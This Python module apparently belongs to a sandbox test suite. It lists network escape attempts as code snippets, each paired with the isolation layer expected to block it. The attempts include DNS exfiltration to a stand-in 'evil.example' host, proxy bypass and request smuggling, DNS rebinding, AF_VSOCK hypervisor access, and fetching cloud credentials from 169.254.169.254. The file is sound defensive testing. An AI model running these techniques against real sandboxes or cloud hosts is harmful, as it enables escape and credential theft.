"""Attacks over the network: phoning home, services of the worker, a cloud's metadata."""

from __future__ import annotations

import socket
from typing import Final

from attacks.attack import Attack, box, by, heard, said
from attacks.ground import Ground
from attacks.layers import Layer

TCP: Final = "try: socket.create_connection(('127.0.0.1', @tcp@), 3)\nexcept OSError: pass"
UDP: Final = """\
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as question:
    head, name = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0', b'\\6secret\\4evil\\7example\\0'
    try: question.sendto(head + name + b'\\0\\1\\0\\1', ('127.0.0.1', @udp@))
    except OSError: pass
"""
UNIX: Final = """\
with socket.socket(socket.AF_UNIX) as out:
    try: out.connect({name})
    except OSError: pass
"""
THROUGH: Final = """\
host, port = os.environ['https_proxy'].removeprefix('http://').split(':')
with socket.create_connection((host, int(port)), 5) as proxy:
    proxy.sendall(b'CONNECT {place} HTTP/1.1\\r\\n\\r\\n')
    proxy.settimeout(5)
    while proxy.recv(4096): pass
"""
SMUGGLED: Final = """\
host, port = os.environ['http_proxy'].removeprefix('http://').split(':')
with socket.create_connection((host, int(port)), 5) as proxy:
    proxy.sendall(b'GET http://allowed@127.0.0.1:@tcp@/ HTTP/1.1\\r\\nHost: localhost:@tcp@\\r\\n\\r\\n')
    proxy.settimeout(5)
    while proxy.recv(4096): pass
"""

HYPERVISOR: Final = """\
try:
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    say('vsock')
except OSError: pass
"""


def _no_vsock(ground: Ground) -> str:
    try:
        socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    except OSError:
        return "this machine's kernel has no vsock"
    return ""


ATTACKS: Final = (
    Attack(
        name="phone-home-by-tcp",
        tries="connect to a service in the worker's network",
        files=box(TCP),
        harmed=heard("tcp"),
        stopped_by=by(Layer.NETWORK),
    ),
    Attack(
        name="phone-home-by-dns",
        tries="carry something out in a DNS question (UDP)",
        files=box(UDP),
        harmed=heard("udp"),
        stopped_by=by(Layer.NETWORK),
    ),
    Attack(
        name="abstract-socket",
        tries="connect to a service of the worker by its abstract Unix socket, which no file system hides",
        files=box(UNIX.format(name="'\\0@abstract@'")),
        harmed=heard("abstract"),
        stopped_by=by(Layer.NETWORK),
    ),
    Attack(
        name="hypervisors-socket",
        tries="open a socket to the hypervisor and its guests, which no network namespace holds back (AF_VSOCK)",
        files=box(HYPERVISOR),
        harmed=said("vsock"),
        stopped_by=by(Layer.SECCOMP),
        missing=_no_vsock,
    ),
    Attack(
        name="socket-in-the-file-system",
        tries="connect to a service of the worker by its Unix socket",
        files=box(UNIX.format(name="'@unix@'")),
        harmed=heard("unix"),
        stopped_by=by(Layer.MOUNTS),
    ),
    Attack(
        name="around-the-proxy",
        tries="where some destinations are granted, connect without the proxy",
        files=box(TCP, "net"),
        harmed=heard("tcp"),
        stopped_by=by(Layer.NETWORK),
    ),
    Attack(
        name="unlisted-destination",
        tries="ask the proxy for a place that the operator did not list",
        files=box(THROUGH.format(place="127.0.0.1:@tcp@"), "net"),
        harmed=heard("tcp"),
        stopped_by=by(Layer.EGRESS),
    ),
    Attack(
        name="name-that-leads-inside",
        tries="ask the proxy for a listed name that resolves to the worker itself (DNS rebinding)",
        files=box(THROUGH.format(place="localhost:@tcp@"), "net"),
        harmed=heard("tcp"),
        stopped_by=by(Layer.EGRESS),
    ),
    Attack(
        name="metadata-service",
        tries="fetch the machine's credentials from the cloud's metadata address, where it was listed by mistake",
        files=box(THROUGH.format(place="169.254.169.254:80"), "net"),
        harmed=heard("tcp"),
        stopped_by=by(Layer.EGRESS),
    ),
    Attack(
        name="two-destinations-in-one-request",
        tries="name a listed place in one part of the request to the proxy and another one in the other",
        files=box(SMUGGLED, "net"),
        harmed=heard("tcp"),
        stopped_by=by(Layer.EGRESS),
    ),
)
